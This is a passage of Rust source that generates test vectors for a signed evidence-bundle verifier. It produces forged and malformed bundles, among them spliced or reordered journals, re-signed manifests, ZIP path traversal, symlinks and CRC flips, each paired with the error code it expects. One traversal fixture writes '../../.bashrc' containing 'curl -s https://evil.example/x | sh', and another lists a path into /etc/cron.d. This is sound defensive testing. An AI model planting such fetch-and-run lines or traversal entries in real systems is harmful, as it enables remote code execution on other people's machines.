         verifies, but standard padded base64 is the envelope's only canonical encoding: the file \
         differs while the evidence claims to be the same, `E_NOT_CANONICAL` and nothing else.",
        edit(&dbt, |c| {
            let mut env: Value = jcs::parse_strict(&c[ATTESTATION_PATH]).unwrap();
            let standard = env["payload"].as_str().unwrap().to_owned();
            let bytes = base64::engine::general_purpose::STANDARD
                .decode(&standard)
                .unwrap();
            let url_safe = base64::engine::general_purpose::URL_SAFE.encode(&bytes);
            assert_ne!(url_safe, standard, "the payload must contain + or /");
            env["payload"] = json!(url_safe);
            c.insert(
                ATTESTATION_PATH.into(),
                jcs::canonicalize_value(&env).unwrap(),
            );
        }),
    ));

    out.push(x.case(
        Kind::Def,
        "file_digest_changed_fail",
        Forged,
        &[Code::DigestMismatch],
        "The dbt run bundle whose embedded `artifacts/dbt/run_results.json` was edited after \
         signing: `rows_affected` 18422 became 18423 in both places, same size. The manifest and \
         its signature are untouched, so the file's SHA-256 no longer matches its entry: \
         `E_DIGEST_MISMATCH` for that file only.",
        edit(&dbt, |c| {
            let p = "artifacts/dbt/run_results.json";
            let text = String::from_utf8(c[p].clone()).unwrap();
            assert_eq!(text.matches("18422").count(), 2);
            c.insert(p.into(), text.replace("18422", "18423").into_bytes());
        }),
    ));

    out.push(x.case(
        Kind::Def,
        "file_size_changed_fail",
        Forged,
        &[Code::SizeMismatch],
        "The dbt run bundle with one byte appended to `artifacts/dbt/run_results.json` after \
         signing. A file whose size differs from its entry is `E_SIZE_MISMATCH` only (never also \
         `E_DIGEST_MISMATCH`).",
        edit(&dbt, |c| {
            c.get_mut("artifacts/dbt/run_results.json")
                .unwrap()
                .push(b'\n');
        }),
    ));

    out.push(x.case(
        Kind::Def,
        "chain_spliced_fail",
        Forged,
        &[Code::ChainBroken],
        "The dbt run bundle with its `seq` 4 entry (the `fct_revenue` model result) replaced by the \
         `seq` 4 entry of the previous day's run of the same job, then the manifest's file entry, \
         journal summary (`head`, `entries_root`, ...) and Merkle root recomputed and re-signed with \
         the trusted key, as a forger holding the key would. Every summary agrees, but the spliced \
         entry's `prev` is the digest of the other journal's entry 3: `E_CHAIN_BROKEN` at `seq` 4.",
        {
            let donor = unzip(
                &dbt_builder(&DBT_PREVIOUS_DAY, "def-dbt-finance-20261123-0900", CREATED_AT)
                    .build(&x.sign_ed())
                    .unwrap()
                    .into_zip_bytes(),
            );
            let mut c = unzip(&dbt);
            let mut l = lines(&c);
            l[4] = lines(&donor)[4].clone();
            set_lines(&mut c, &l);
            repack_resigned(c, x.ed(), true)
        },
    ));

    out.push(x.case(
        Kind::Def,
        "merkle_root_altered_fail",
        Forged,
        &[Code::MerkleRoot],
        "The dbt run bundle whose manifest `merkle.root` was replaced, and the statement's \
         `merkle-root` subject with it, re-signed with the trusted key. The signature and subjects \
         agree, but the root recomputed from the canonical file entries does not: `E_MERKLE_ROOT`.",
        edit(&dbt, |c| {
            let mut m = manifest(c);
            m["merkle"]["root"] = json!(sha("forged root"));
            set_manifest(c, &m);
            resign(c, x.ed());
        }),
    ));

    let mut swapped = x.case(
        Kind::Def,
        "external_artifact_swapped_fail",
        Forged,
        &[Code::ArtifactMismatch],
        "The bundle of `external_artifact_supplied`, verified with `artifacts/` holding a different \
         `fct_revenue.parquet`: another export of the same size whose SHA-256 differs from the \
         reference. The supplied bytes are checked and do not match: `E_ARTIFACT_MISMATCH`.",
        x.external(),
    );
    let other = parquet_bytes("2026-11-24 rerun");
    assert_eq!(other.len(), parquet_bytes("2026-11-24").len());
    swapped.artifacts = Some(vec![(PARQUET_NAME, other)]);
    out.push(swapped);

    out.push(x.case(
        Kind::Def,
        "manifest_edited_not_resigned_fail",
        Forged,
        &[Code::SubjectMismatch],
        "The dbt run bundle whose manifest was edited after signing (`governance.environment` \
         `prod` became `staging`), still canonical and schema-valid, without re-signing. The \
         signature verifies over the original statement, whose `manifest.json` subject digest is \
         not the digest of these manifest bytes: `E_SUBJECT_MISMATCH`.",
        edit(&dbt, |c| {
            let mut m = manifest(c);
            m["governance"]["environment"] = json!("staging");
            set_manifest(c, &m);
        }),
    ));

    out.push(x.case(
        Kind::Def,
        "journal_entry_edited_fail",
        Forged,
        &[Code::ChainBroken, Code::DigestMismatch, Code::MerkleRoot],
        "The dbt run bundle with one journal entry edited after signing (`rows_affected` of \
         `fct_revenue` 18422 became 18423, same length) and nothing re-signed. Three independent \
         findings: the journal's digest differs from its file entry (`E_DIGEST_MISMATCH`), the \
         next entry's `prev` no longer matches (`E_CHAIN_BROKEN` at `seq` 5), and the entries' \
         Merkle root is not `journal.entries_root` (`E_MERKLE_ROOT`).",
        edit(&dbt, |c| {
            let mut l = lines(c);
            let text = String::from_utf8(l[4].clone()).unwrap();
            l[4] = text.replace("18422", "18423").into_bytes();
            set_lines(c, &l);
        }),
    ));

    out.push(x.case(
        Kind::Def,
        "unlisted_file_added_fail",
        Forged,
        &[Code::UnlistedFile],
        "The dbt run bundle with a file added after signing, `artifacts/dbt/run_results.corrected.json`, \
         that the manifest does not list. Everything listed still checks, but a bundle may hold \
         nothing beyond what its manifest lists: `E_UNLISTED_FILE` for the added file.",
        edit(&dbt, |c| {
            c.insert(
                "artifacts/dbt/run_results.corrected.json".into(),
                run_results(&DBT_PREVIOUS_DAY),
            );
        }),
    ));

    out.push(x.case(
        Kind::Def,
        "predicate_type_swapped_fail",
        Forged,
        &[Code::SubjectMismatch],
        "The dbt run bundle (`format` `clyra-def`) whose statement was re-signed by the trusted key \
         with `predicateType` `https://clyra.dev/pef/v0`. The predicate type must be the one the \
         manifest's `format` requires: `E_SUBJECT_MISMATCH`, and the predicate is then checked \
         against neither schema.",
        edit(&dbt, |c| {
            restate(c, x.ed(), |s| {
                s["predicateType"] = json!(Kind::Pef.predicate_type());
            });
        }),
    ));

    out.push(x.case(
        Kind::Def,
        "listed_file_missing_fail",
        Forged,
        &[Code::MissingFile],
        "The dbt run bundle with `artifacts/dbt/run_results.json` removed after signing. The \
         manifest still lists it, so a file the evidence relies on is gone: `E_MISSING_FILE` for \
         that path.",
        edit(&dbt, |c| {
            c.remove("artifacts/dbt/run_results.json");
        }),
    ));

    out.push(x.case(
        Kind::Def,
        "unlisted_case_variant_fail",
        Forged,
        &[Code::UnlistedFile],
        "The dbt run bundle with an extra entry `Journal.ndjson` next to `journal.ndjson`, holding \
         a different journal. Paths are case-sensitive: on a case-insensitive file system one \
         would replace the other when extracted, so the variant must be listed or it is \
         `E_UNLISTED_FILE`.",
        edit(&dbt, |c| {
            let mut j = c[JOURNAL_PATH].clone();
            j.truncate(j.len() / 2);
            c.insert("Journal.ndjson".into(), j);
        }),
    ));

    out.push(x.case(
        Kind::Def,
        "subject_missing_fail",
        Forged,
        &[Code::SubjectMismatch],
        "The dbt run bundle whose statement, re-signed with the trusted key, keeps only the \
         `manifest.json` subject and drops `merkle-root`. The subjects must be exactly these two, \
         in this order: `E_SUBJECT_MISMATCH`.",
        edit(&dbt, |c| {
            restate(c, x.ed(), |s| {
                s["subject"].as_array_mut().unwrap().pop();
            });
        }),
    ));

    out.push(x.case(
        Kind::Def,
        "journal_genesis_prev_not_zero_fail",
        Forged,
        &[Code::ChainBroken],
        "The dbt run bundle whose manifest claims `journal.first_prev` is a non-zero digest while \
         `journal.first_seq` is 0, re-signed with the trusted key. A segment that starts at `seq` 0 \
         starts a journal, whose first `prev` is 64 zeros; and the first entry's `prev` is not the \
         claimed one either: `E_CHAIN_BROKEN` (reported twice, one code).",
        edit(&dbt, |c| {
            let mut m = manifest(c);
            m["journal"]["first_prev"] = json!(sha("a journal before genesis"));
            set_manifest(c, &m);
            resign(c, x.ed());
        }),
    ));

    out.push(x.case(
        Kind::Def,
        "anchor_outside_segment_fail",
        Forged,
        &[Code::Schema],
        "The dbt run bundle whose predicate, re-signed with the trusted key, ties the second WAL \
         anchor to journal `seq` 12 while the segment holds 0 to 9. Every anchor `seq` must lie \
         within the bundle's journal segment: `E_SCHEMA`.",
        edit(&dbt, |c| {
            restate(c, x.ed(), |s| {
                s["predicate"]["anchors"][1]["seq"] = json!(12)
            });
        }),
    ));

    // PEF forgeries.
    out.push(x.case(
        Kind::Pef,
        "metrics_entries_lie_fail",
        Forged,
        &[Code::Schema],
        "The agent session whose predicate, re-signed with the trusted key, claims \
         `metrics.entries` 7 while the manifest's `journal.count` is 8. The numbers must not lie: \
         `E_SCHEMA`.",
        edit(&agent, |c| {
            restate(c, x.ed(), |s| {
                s["predicate"]["metrics"]["entries"] = json!(7)
            });
        }),
    ));

    out.push(x.case(
        Kind::Pef,
        "journal_entry_removed_fail",
        Forged,
        &[Code::ChainBroken],
        "The agent session with the blocked `sql.execute` decision (`seq` 6) deleted to hide it: \
         the journal, the manifest's file entry, journal summary and Merkle root, and the predicate \
         (tool call removed, `decisions.block` 0, `metrics`) all rewritten and re-signed with the \
         trusted key. Every summary agrees, but `seq` jumps from 5 to 7 and entry 7's `prev` is \
         the digest of the removed entry: `E_CHAIN_BROKEN`.",
        {
            let mut c = unzip(&agent);
            let mut l = lines(&c);
            l.remove(6);
            set_lines(&mut c, &l);
            restate(&mut c, x.ed(), |s| {
                let p = &mut s["predicate"];
                p["decisions"]["block"] = json!(0);
                p["tool_calls"].as_array_mut().unwrap().retain(|t| t["seq"] != 6);
            });
            repack_resigned(c, x.ed(), true)
        },
    ));

    out.push(x.case(
        Kind::Pef,
        "journal_entries_reordered_fail",
        Forged,
        &[Code::ChainBroken],
        "The agent session with entries 3 and 4 swapped, so the approval appears before the \
         request it approves, with every summary recomputed and re-signed with the trusted key. \
         The first line out of place has `seq` 4 where 3 is due: `E_CHAIN_BROKEN`.",
        {
            let mut c = unzip(&agent);
            let mut l = lines(&c);
            l.swap(3, 4);
            set_lines(&mut c, &l);
            repack_resigned(c, x.ed(), true)
        },
    ));

    let mut threshold = x.case(
        Kind::Pef,
        "threshold_not_met_fail",
        Forged,
        &[Code::Threshold],
        "The agent session signed by one trusted key only, verified with a threshold of 2 and a \
         trust file listing two keys. One distinct trusted key signed where two are required: \
         `E_THRESHOLD`.",
        agent.clone(),
    );
    threshold.trust = trust_json(&[trusted(&k.ed25519), trusted(&k.p256)]);
    threshold.threshold = 2;
    out.push(threshold);

    let mut twice = x.case(
        Kind::Pef,
        "same_key_twice_fail",
        Forged,
        &[Code::Threshold],
        "The agent session whose envelope carries the trusted Ed25519 signature twice, verified \
         with a threshold of 2. Signatures are counted by distinct key, so a copied signature adds \
         nothing: one key where two are required, `E_THRESHOLD`.",
        edit(&agent, |c| {
            edit_envelope(c, |e| {
                let copy = e.signatures[0].clone();
                e.signatures.push(copy);
            });
        }),
    );
    twice.trust = trust_json(&[trusted(&k.ed25519), trusted(&k.p256)]);
    twice.threshold = 2;
    out.push(twice);

    out.push(x.case(
        Kind::Pef,
        "tool_call_outside_segment_fail",
        Forged,
        &[Code::Schema],
        "The agent session whose predicate, re-signed with the trusted key, names a tool call at \
         journal `seq` 42, outside the bundle's segment (0 to 7). Every `seq` a PEF predicate names \
         must lie within the segment: `E_SCHEMA`.",
        edit(&agent, |c| {
            restate(c, x.ed(), |s| s["predicate"]["tool_calls"][2]["seq"] = json!(42));
        }),
    ));

    out
}

fn negative_cases(x: &Ctx) -> Vec<Case> {
    use Category::Negative;
    let dbt = x.dbt();
    let agent = x.agent();
    let mut out = Vec::new();

    out.push(x.case(
        Kind::Def,
        "manifest_not_canonical_fail",
        Negative,
        &[Code::NotCanonical],
        "The dbt run bundle with `manifest.json` pretty-printed (same JSON value, other bytes), \
         re-signed so the statement's subject is the digest of these bytes. The manifest must be \
         RFC 8785 canonical JSON: `E_NOT_CANONICAL` and nothing else.",
        edit(&dbt, |c| {
            let pretty = serde_json::to_vec_pretty(&manifest(c)).unwrap();
            c.insert(MANIFEST_PATH.into(), pretty);
            resign(c, x.ed());
        }),
    ));

    out.push(x.case(
        Kind::Def,
        "manifest_duplicate_key_fail",
        Negative,
        &[Code::Json],
        "The dbt run bundle whose manifest has `bundle_id` twice (two parsers could read two \
         different manifests from these bytes), re-signed. The strict JSON profile rejects \
         duplicate member names: `E_JSON`, and nothing that depends on the manifest is checked.",
        edit(&dbt, |c| {
            c.insert(
                MANIFEST_PATH.into(),
                replace_once(
                    &c[MANIFEST_PATH],
                    "\"bundle_id\":",
                    "\"bundle_id\":\"def-dbt-finance-20261124-0900-b\",\"bundle_id\":",
                ),
            );
            resign(c, x.ed());
        }),
    ));

    out.push(x.case(
        Kind::Def,
        "manifest_lone_surrogate_fail",
        Negative,
        &[Code::Json],
        "The dbt run bundle whose manifest's `governance.tenant` ends in the escape `\\ud800`, a \
         lone UTF-16 surrogate that denotes no Unicode character, re-signed. The strict JSON \
         profile rejects it: `E_JSON`.",
        edit(&dbt, |c| {
            c.insert(
                MANIFEST_PATH.into(),
                replace_once(
                    &c[MANIFEST_PATH],
                    "\"tenant\":\"acme\"",
                    "\"tenant\":\"acme\\ud800\"",
                ),
            );
            resign(c, x.ed());
        }),
    ));

    out.push(x.case(
        Kind::Def,
        "journal_big_integer_fail",
        Negative,
        &[Code::Json],
        "The dbt run bundle whose last journal entry carries `\"rows_scanned\":9007199254740993` \
         (2^53+1, which an IEEE double cannot hold, so parsers would disagree), with the file entry \
         refreshed and re-signed. The strict profile rejects integers beyond 2^53-1: `E_JSON`. A \
         line that cannot be parsed makes the chain and the entries root uncheckable, so they are \
         not reported.",
        {
            let mut c = unzip(&dbt);
            let mut l = lines(&c);
            let last = l.len() - 1;
            let text = String::from_utf8(l[last].clone()).unwrap();
            l[last] = text
                .replacen("\"run_id\"", "\"rows_scanned\":9007199254740993,\"run_id\"", 1)
                .into_bytes();
            set_lines(&mut c, &l);
            repack_resigned(c, x.ed(), false)
        },
    ));

    out.push(x.case(
        Kind::Def,
        "manifest_schema_violation_fail",
        Negative,
        &[Code::Schema],
        "The dbt run bundle whose manifest lacks the required `governance.tenant`, re-signed. It \
         is canonical strict JSON but does not match `manifest.schema.json`: `E_SCHEMA`, and the \
         manifest is not used for anything that depends on it.",
        edit(&dbt, |c| {
            let mut m = manifest(c);
            m["governance"].as_object_mut().unwrap().remove("tenant");
            set_manifest(c, &m);
            resign(c, x.ed());
        }),
    ));

    out.push(x.case(
        Kind::Def,
        "unknown_major_version_fail",
        Negative,
        &[Code::UnknownVersion],
        "The dbt run bundle with `format_version` `1.0`, re-signed. A verifier of 0.1 does not \
         implement major version 1: `E_UNKNOWN_VERSION`, and nothing that depends on the \
         manifest's shape is checked.",
        edit(&dbt, |c| {
            let mut m = manifest(c);
            m["format_version"] = json!("1.0");
            set_manifest(c, &m);
            resign(c, x.ed());
        }),
    ));

    out.push(x.case(
        Kind::Def,
        "unknown_minor_version_fail",
        Negative,
        &[Code::UnknownVersion],
        "The dbt run bundle with `format_version` `0.2`, re-signed. While the major version is 0 \
         there is no compatibility between minors, so a 0.1 verifier rejects 0.2: \
         `E_UNKNOWN_VERSION` (not the reserved `W_NEWER_MINOR`).",
        edit(&dbt, |c| {
            let mut m = manifest(c);
            m["format_version"] = json!("0.2");
            set_manifest(c, &m);
            resign(c, x.ed());
        }),
    ));

    out.push(x.case(
        Kind::Def,
        "unknown_minor_version_0_3_fail",
        Negative,
        &[Code::UnknownVersion],
        "The dbt run bundle with `format_version` `0.3`, re-signed. While the major version is 0 \
         there is no compatibility between minors, so a verifier of 0.1 and 0.2 rejects 0.3: \
         `E_UNKNOWN_VERSION` (not the reserved `W_NEWER_MINOR`). Replaces \
         `unknown_minor_version_fail`, whose `0.2` is implemented since format 0.2.",
        edit(&dbt, |c| {
            let mut m = manifest(c);
            m["format_version"] = json!("0.3");
            set_manifest(c, &m);
            resign(c, x.ed());
        }),
    ));

    out.push(x.case(
        Kind::Def,
        "path_traversal_entry_fail",
        Negative,
        &[Code::UnsafePath],
        "The dbt run bundle with an extra ZIP entry named `../../.bashrc`, otherwise canonical. \
         An extracting tool would write outside its target directory. An unsafe path is \
         `E_UNSAFE_PATH`, a fatal container finding reported before anything else is read.",
        {
            let mut c = unzip(&dbt);
            c.insert(
                "aa/aa/.bashrc".into(),
                b"curl -s https://evil.example/x | sh\n".to_vec(),
            );
            let mut bytes = rezip(&c);
            replace_all(&mut bytes, b"aa/aa/.bashrc", b"../../.bashrc");
            bytes
        },
    ));

    out.push(x.case(
        Kind::Def,
        "symlink_entry_fail",
        Negative,
        &[Code::LinkEntry],
        "The dbt run bundle with an extra entry `artifacts/dbt/profiles.yml` whose external \
         attributes mark a symbolic link (mode `0120777`) to `/home/airflow/.dbt/profiles.yml`. \
         Only regular files may appear: `E_LINK_ENTRY`, a fatal container finding, reported in \
         preference to the non-canonical attributes.",
        {
            let mut c = unzip(&dbt);
            c.insert(
                "artifacts/dbt/profiles.yml".into(),
                b"/home/airflow/.dbt/profiles.yml".to_vec(),
            );
            let mut bytes = rezip(&c);
            let (cd, _) = entry_offsets(&bytes, "artifacts/dbt/profiles.yml");
            bytes[cd + 38..cd + 42].copy_from_slice(&(0o120_777u32 << 16).to_le_bytes());
            bytes
        },
    ));

    out.push(x.case(
        Kind::Def,
        "oversized_entry_fail",
        Negative,
        &[Code::TooLarge],
        "The dbt run bundle whose last entry, `manifest.json`, declares 1 GiB + 1 bytes \
         (1073741825) in both its central directory entry and its local header, while the file \
         holds far less. Limits are decided from the central directory before any entry data is \
         read: `E_TOO_LARGE`, a fatal container finding.",
        {
            let mut bytes = dbt.clone();
            let (cd, local) = entry_offsets(&bytes, MANIFEST_PATH);
            let big = ((1u32 << 30) + 1).to_le_bytes();
            for at in [cd + 20, cd + 24, local + 18, local + 22] {
                bytes[at..at + 4].copy_from_slice(&big);
            }
            bytes
        },
    ));

    out.push(x.case(
        Kind::Def,
        "missing_manifest_fail",
        Negative,
        &[Code::MissingFile],
        "The dbt run bundle without `manifest.json`. The attestation still verifies, but nothing \
         can be checked against a manifest that is not there: `E_MISSING_FILE`.",
        edit(&dbt, |c| {
            c.remove(MANIFEST_PATH);
        }),
    ));

    out.push(x.case(
        Kind::Def,
        "missing_attestation_fail",
        Negative,
        &[Code::MissingFile],
        "The dbt run bundle without `attestation.dsse.json`. The manifest and files are intact, \
         but nothing is signed: `E_MISSING_FILE`.",
        edit(&dbt, |c| {
            c.remove(ATTESTATION_PATH);
        }),
    ));

    out.push(x.case(
        Kind::Def,
        "manifest_unsafe_path_fail",
        Negative,
        &[Code::UnsafePath],
        "The dbt run bundle whose manifest lists its embedded file as \
         `artifacts/../../etc/cron.d/dbt` instead of `artifacts/dbt/run_results.json` (Merkle root \
         recomputed, re-signed). A path the manifest lists must be safe too: `E_UNSAFE_PATH`, and \
         the manifest is not used further.",
        edit(&dbt, |c| {
            let mut m = manifest(c);
            m["files"][0]["path"] = json!("artifacts/../../etc/cron.d/dbt");
            refresh_files(&mut m, c);
            set_manifest(c, &m);
            resign(c, x.ed());
        }),
    ));

    out.push(x.case(
        Kind::Def,
        "zip_trailing_data_fail",
        Negative,
        &[Code::Archive],
        "The dbt run bundle with 16 bytes appended after the end-of-central-directory record. \
         The record must be the last 22 bytes, and no byte outside the canonical encoding is \
         allowed: `E_ARCHIVE`, a fatal container finding.",
        {
            let mut bytes = dbt.clone();
            bytes.extend_from_slice(b"appended payload");
            bytes
        },
    ));

    out.push(x.case(
        Kind::Def,
        "zip_timestamps_set_fail",
        Negative,
        &[Code::Archive],
        "The dbt run bundle with every entry's modification time and date set to \
         2026-11-24 10:00:00 in both local and central headers, as a general ZIP tool writes \
         them. The files are unchanged, but the container is not in canonical form (time 0, date \
         1980-01-01): `E_ARCHIVE`.",
        {
            let mut bytes = dbt.clone();
            let time: u16 = 10 << 11;
            let date: u16 = ((2026 - 1980) << 9) | (11 << 5) | 24;
            let mut stamp = time.to_le_bytes().to_vec();
            stamp.extend_from_slice(&date.to_le_bytes());
            for (name, _) in central_entries(&dbt) {
                let (cd, local) = entry_offsets(&dbt, &name);
                bytes[cd + 12..cd + 16].copy_from_slice(&stamp);
                bytes[local + 10..local + 14].copy_from_slice(&stamp);
            }
            bytes
        },
    ));

    out.push(x.case(
        Kind::Def,
        "zip_crc_mismatch_fail",
        Negative,
        &[Code::Archive],
        "The dbt run bundle with one bit flipped inside the stored data of \
         `artifacts/dbt/run_results.json`, headers untouched. The entry's CRC-32 no longer matches \
         its data: `E_ARCHIVE`, a fatal container finding, so the digest mismatch it also causes is \
         not reported.",
        {
            let mut bytes = dbt.clone();
            let (_, local) = entry_offsets(&bytes, "artifacts/dbt/run_results.json");
            let data = local + 30 + "artifacts/dbt/run_results.json".len();
            bytes[data + 40] ^= 0x01;
            bytes
        },
    ));

    out.push(x.case(
        Kind::Def,
        "zip_crc_mismatch_is_fatal_fail",
        Negative,
        &[Code::Archive],
        "The dbt run bundle with one bit flipped inside the stored data of `journal.ndjson` and an \
         extra, unlisted entry `artifacts/dbt/debug.log`. A CRC-32 mismatch is a container finding, \
         and container findings are fatal: the verifier reports the first one and reads nothing \
         else, so only `E_ARCHIVE` is reported, not the unlisted file (nor the journal's digest, \
         chain or root).",
        {
            let mut c = unzip(&dbt);
            c.insert(
                "artifacts/dbt/debug.log".into(),
                b"09:00:49 Finished running 3 models, 3 tests\n".to_vec(),
            );
            let mut bytes = rezip(&c);
            let (_, local) = entry_offsets(&bytes, JOURNAL_PATH);
            let data = local + 30 + JOURNAL_PATH.len();
            bytes[data + 200] ^= 0x01;
            bytes
        },
    ));

    out.push(x.case(
        Kind::Def,
        "envelope_extra_member_fail",
        Negative,
        &[Code::Schema],
        "The dbt run bundle whose DSSE envelope carries an extra top-level member \
         `\"signer\":\"ci\"`, canonical JSON otherwise. The envelope has exactly `payload`, \
         `payloadType` and `signatures` (each `keyid`, `sig`): `E_SCHEMA`, and the envelope is not \
         used further.",
        edit(&dbt, |c| {
            let mut env: Value = jcs::parse_strict(&c[ATTESTATION_PATH]).unwrap();
            env["signer"] = json!("ci");
            c.insert(
                ATTESTATION_PATH.into(),
                jcs::canonicalize_value(&env).unwrap(),
            );
        }),
    ));

    out.push(x.case(
        Kind::Def,
        "signature_not_base64_fail",
        Negative,
        &[Code::Signature],
        "The dbt run bundle whose signature's `sig` is not base64 (`*` characters). A malformed \
         signature or base64 is `E_SIGNATURE`.",
        edit(&dbt, |c| {
            let mut env: Value = jcs::parse_strict(&c[ATTESTATION_PATH]).unwrap();
            let sig = env["signatures"][0]["sig"].as_str().unwrap().to_owned();
            env["signatures"][0]["sig"] = json!(format!("**{}", &sig[2..]));
            c.insert(
                ATTESTATION_PATH.into(),
                jcs::canonicalize_value(&env).unwrap(),
            );
        }),
    ));

    // PEF negatives.
    out.push(x.case(
        Kind::Pef,
        "journal_line_not_canonical_fail",
        Negative,
        &[Code::NotCanonical],
        "The agent session whose journal line 2 is written with spaces after `:` and `,` (same \
         JSON value, other bytes), with the file entry refreshed and re-signed. The chain and the \
         entries root use each entry's canonical bytes, so they still hold; only the form is wrong: \
         `E_NOT_CANONICAL` and nothing else.",
        {
            let mut c = unzip(&agent);
            let mut l = lines(&c);
            let value = jcs::parse_strict(&l[2]).unwrap();
            let pretty = serde_json::to_vec_pretty(&value).unwrap();
            l[2] = pretty.into_iter().filter(|b| *b != b'\n').collect();
            set_lines(&mut c, &l);
            repack_resigned(c, x.ed(), false)
        },
    ));

    out.push(x.case(
        Kind::Pef,
        "journal_missing_final_newline_fail",
        Negative,
        &[Code::Json],
        "The agent session whose `journal.ndjson` lacks the LF after its last line, with the file \
         entry refreshed and re-signed. Every line must end with LF: `E_JSON`.",
        {
            let mut c = unzip(&agent);
            c.get_mut(JOURNAL_PATH).unwrap().pop();
            repack_resigned(c, x.ed(), false)
        },
    ));

    out.push(x.case(
        Kind::Pef,
        "journal_entry_missing_kind_fail",
        Negative,
        &[Code::Schema],
        "The agent session whose last journal entry has no `kind`, with the journal summary, file \
         entry and Merkle root recomputed and re-signed so the chain holds. Every entry needs \
         `seq`, `prev`, `ts` and `kind`: `E_SCHEMA`.",
        {
            let mut c = unzip(&agent);
            let mut m = manifest(&c);
            let mut l = lines(&c);
            let last = l.len() - 1;
            let mut entry: Value = jcs::parse_strict(&l[last]).unwrap();
            entry.as_object_mut().unwrap().remove("kind");
            l[last] = jcs::canonicalize_value(&entry).unwrap();
            set_lines(&mut c, &l);
            refresh_journal(&mut m, &c);
            set_manifest(&mut c, &m);
            repack_resigned(c, x.ed(), false)
        },
    ));

    out.push(x.case(
        Kind::Pef,
        "sla_flag_lies_fail",
        Negative,
        &[Code::Schema],
        "The agent session whose SLA `latency_ms.p95 <= 50` (value 6.3) claims `met: false`, \
         re-signed with the trusted key. The verifier recomputes `met` from `value`, `op` and \
         `threshold`, and an SLA flag must not lie: `E_SCHEMA`.",
        edit(&agent, |c| {
            restate(c, x.ed(), |s| {
                s["predicate"]["sla"][0]["met"] = json!(false)
            });
        }),
    ));

    out
}

// ------------------------------------------------------------------------------------------------
// Writing

#[derive(serde::Serialize)]
struct Expected<'a> {
    verdict: &'a str,
    codes: Vec<&'a str>,
    verify_at: &'a str,
    threshold: usize,
    artifacts: Option<&'a str>,
    category: &'a str,
    description: &'a str,
}

fn write_file(path: &Path, bytes: &[u8]) {
    if let Some(parent) = path.parent() {
        std::fs::create_dir_all(parent).unwrap();
    }
    std::fs::write(path, bytes).unwrap();
}

/// Writes `case` into the new directory `dir`.
fn write_case(case: &Case, dir: &Path) {
    std::fs::create_dir(dir).unwrap();
    match &case.form {
        Form::Zip(bytes) => write_file(&dir.join("bundle.zip"), bytes),
        Form::Dir(contents) => {
            for (path, bytes) in contents {
                let target = path.split('/').fold(dir.join("bundle"), |p, s| p.join(s));
                write_file(&target, bytes);
            }
        }
    }
    write_file(&dir.join("trust.json"), &case.trust);
    if let Some(artifacts) = &case.artifacts {
        for (name, bytes) in artifacts {
            write_file(&dir.join("artifacts").join(name), bytes);
        }
    }
    let mut codes: Vec<&str> = case.expect.iter().map(|c| c.as_str()).collect();
    codes.sort_unstable();
    codes.dedup();
    let valid = case.expect.iter().all(|c| !c.is_error());
    let description = case
        .description
        .split_whitespace()
        .collect::<Vec<_>>()
        .join(" ");
    let expected = Expected {
        verdict: if valid { "valid" } else { "invalid" },
        codes,
        verify_at: VERIFY_AT,
        threshold: case.threshold,
        artifacts: case.artifacts.as_ref().map(|_| "artifacts"),
        category: case.category.as_str(),
        description: &description,
    };
    let mut json = serde_json::to_string_pretty(&expected).unwrap();
    json.push('\n');
    write_file(&dir.join("expected.json"), json.as_bytes());
    let format = case.kind.format().trim_start_matches("clyra-");
    let readme = format!("# {format}/{}\n\n{}\n", case.name, wrap(&description, 100));
    write_file(&dir.join("README.md"), readme.as_bytes());
}

fn wrap(text: &str, width: usize) -> String {
    let mut out = String::new();
    let mut line = 0;
    for word in text.split(' ') {
        if line > 0 && line + 1 + word.len() > width {
            out.push('\n');
            line = 0;
        } else if line > 0 {
            out.push(' ');
            line += 1;
        }
        out.push_str(word);
        line += word.len();
    }
    out
}

/// Runs the Rust verifier on the case as written in `dir`, the way the vector test does.
fn verify_written(case: &Case, dir: &Path) -> Result<(), String> {
    let trust = TrustStore::read_file(&dir.join("trust.json")).map_err(|e| e.to_string())?;
    let artifacts = dir.join("artifacts");
    let mut options = VerifyOptions::new(&trust, ts(VERIFY_AT));
    options.threshold = case.threshold;
    if case.artifacts.is_some() {
        options.artifacts_dir = Some(&artifacts);
    }
    let bundle = match case.form {
        Form::Zip(_) => dir.join("bundle.zip"),
        Form::Dir(_) => dir.join("bundle"),
    };
    let report = verify_path(&bundle, &options).map_err(|e| e.to_string())?;
    let got: BTreeSet<&str> = report.findings.iter().map(|f| f.code.as_str()).collect();
    let want: BTreeSet<&str> = case.expect.iter().map(|c| c.as_str()).collect();
    if got != want {
        return Err(format!(
            "the verifier reports {got:?}, the spec requires {want:?}: {:#?}",
            report.findings
        ));
    }
    let valid = want.iter().all(|c| c.starts_with("W_"));
    if report.is_valid() != valid {
        return Err(format!("verdict {:?}", report.verdict));
    }
    Ok(())
}

fn same_tree(a: &Path, b: &Path) -> bool {
    fn files(root: &Path, dir: &Path, out: &mut Vec<(PathBuf, Vec<u8>)>) {
        let mut items: Vec<_> = std::fs::read_dir(dir)
            .unwrap()
            .map(|e| e.unwrap())
            .collect();
        items.sort_by_key(|e| e.file_name());
        for item in items {
            let path = item.path();
            if item.file_type().unwrap().is_dir() {
                files(root, &path, out);
            } else {
                let rel = path.strip_prefix(root).unwrap().to_path_buf();
                out.push((rel, std::fs::read(&path).unwrap()));
            }
        }
    }
    let (mut x, mut y) = (Vec::new(), Vec::new());
    files(a, a, &mut x);
    files(b, b, &mut y);
    x == y
}

fn usage() -> ! {
    eprintln!("usage: gen_vectors --out DIR [--force]");
    eprintln!("  writes DIR/def/test-vectors, DIR/pef/test-vectors and DIR/test-vectors-keys;");
    eprintln!("  existing case folders are kept (published vectors are immutable);");
    eprintln!("  --force replaces them, and is refused where DIR/test-vectors.lock exists");
    std::process::exit(2)
}

fn main() {
    let mut out: Option<PathBuf> = None;
    let mut force = false;
    let mut args = std::env::args().skip(1);
    while let Some(arg) = args.next() {
        match arg.as_str() {
            "--out" => out = Some(args.next().map(PathBuf::from).unwrap_or_else(|| usage())),
            "--force" => force = true,
            _ => usage(),
        }
    }
    let out = out.unwrap_or_else(|| usage());
    if force && out.join("test-vectors.lock").exists() {
        eprintln!(
            "refusing --force in `{}`: it holds test-vectors.lock, so its vectors are published \
             and immutable. Build a fresh tree in another directory.",
            out.display()
        );
        std::process::exit(2);
    }

    let keys = Keys::derive();
    let key_dir = out.join("test-vectors-keys");
    for (name, bytes) in keys.files() {
        let path = key_dir.join(&name);
        match std::fs::read(&path) {
            Ok(existing) if existing == bytes => {}
            Ok(_) if !force => {
                eprintln!(
                    "`{}` differs from the key the generator derives; published keys are never \
                     replaced",
                    path.display()
                );
